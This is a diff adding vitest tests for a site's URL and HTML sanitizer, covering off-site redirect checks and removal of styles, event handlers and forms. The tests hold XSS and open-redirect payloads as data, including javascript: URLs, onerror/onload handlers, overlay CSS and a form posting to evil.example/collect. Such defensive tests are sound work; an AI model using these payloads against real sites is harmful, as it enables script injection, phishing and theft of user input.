@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { safeUrl, sanitizeHtml, setSanitizedHtml } from './sanitize';
+import { safeUrl, sameSiteUrl, sanitizeHtml, setSanitizedHtml } from './sanitize';
 
 describe('safeUrl (site spec 2.3 link rule)', () => {
   it.each([
@@ -46,10 +46,41 @@ describe('safeUrl (site spec 2.3 link rule)', () => {
     expect(safeUrl(url)).toBe(url);
   });
 
+  it('blocks a link that does not parse', () => {
+    expect(safeUrl('http://[broken')).toBe('about:blank');
+  });
+
   it('gives an empty string for a missing URL', () => {
     expect(safeUrl(undefined)).toBe('');
     expect(safeUrl(null)).toBe('');
     expect(safeUrl('')).toBe('');
+  });
+});
+
+describe('sameSiteUrl (links that must stay on the site)', () => {
+  const here = new URL(document.baseURI);
+
+  it.each(['/', '/investor/insights', './fund', '?x=1', '#top', `${here.origin}/login`])('keeps %j', (url) => {
+    expect(sameSiteUrl(url, '/home')).toBe(url);
+  });
+
+  it.each([
+    '//evil.example/',
+    '/\\evil.example/',
+    '\\\\evil.example/',
+    ' //evil.example',
+    'https://evil.example/login',
+    `${here.protocol === 'https:' ? 'http:' : 'https:'}//${here.host}/`,
+    'javascript:alert(1)',
+    'data:text/html,x',
+    'http://[broken',
+  ])('refuses %j and gives the fallback', (url) => {
+    expect(sameSiteUrl(url, '/home')).toBe('/home');
+  });
+
+  it('gives the fallback for a missing URL', () => {
+    expect(sameSiteUrl(undefined)).toBe('/');
+    expect(sameSiteUrl('', '/x')).toBe('/x');
   });
 });
 
@@ -89,6 +120,35 @@ describe('sanitizeHtml', () => {
     expect(blank!.getAttribute('target')).toBe('_blank');
     expect(blank!.getAttribute('rel')).toBe('external noopener noreferrer');
     expect(plain!.hasAttribute('rel')).toBe(false);
+  });
+
+  it('removes styles that could hide or cover the widget: <style> elements, @import, style attributes', () => {
+    const html = sanitizeHtml(
+      '<style>@import url(//evil.example/x.css); .actions{display:none}</style>' +
+        '<p style="position:fixed;inset:0;z-index:9999">Read this</p>' +
+        '<svg><style>*{opacity:0}</style><circle r="1"></circle></svg>',
+    );
+    expect(html).not.toMatch(/style|@import|position/i);
+    expect(html).toContain('<p>Read this</p>');
+  });
+
+  it('removes event handlers however they are written, before a parser sees them', () => {
+    const html = sanitizeHtml(
+      '<img src="x.png" onerror="alert(1)"><img src="y.png"ONLOAD=alert(2)><svg/onload=alert(3)>' +
+        "<p title='a'onclick = 'x()'>Text about going on=time</p>",
+    );
+    expect(html).not.toMatch(/\bon(error|load|click)\b|x-removed/i);
+    expect(html).toContain('Text about going on=time');
+  });
+
+  it('removes forms and their controls, keeping their text', () => {
+    const html = sanitizeHtml(
+      '<form action="https://evil.example/collect"><label>Name <input name="n"></label>' +
+        '<button formaction="https://evil.example">Send</button><select><option>x</option></select>' +
+        '<textarea>t</textarea></form><p popover>p</p>',
+    );
+    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|action=|popover/i);
+    expect(html).toContain('Name');
   });
 
   it('gives an empty string for missing HTML', () => {
